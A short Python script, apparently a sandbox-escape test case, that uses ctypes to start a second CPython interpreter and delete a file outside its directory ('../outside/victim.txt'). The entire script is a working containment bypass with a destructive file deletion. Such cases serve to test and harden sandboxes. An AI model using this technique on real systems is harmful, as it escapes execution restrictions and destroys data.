# The interpreter's own functions make another interpreter.
# damage: deleted
# needs: ctypes
import ctypes

api = ctypes.pythonapi
for name in ("PyThreadState_Get", "Py_NewInterpreter", "PyThreadState_Swap"):
    getattr(api, name).restype = ctypes.c_void_p
api.PyThreadState_Swap.argtypes = api.Py_EndInterpreter.argtypes = [ctypes.c_void_p]
run = ctypes.PYFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(("PyRun_SimpleString", api))
mine = api.PyThreadState_Get()
other = api.Py_NewInterpreter()
run(b"import posix; posix.unlink('../outside/victim.txt')")
api.Py_EndInterpreter(other)
api.PyThreadState_Swap(mine)
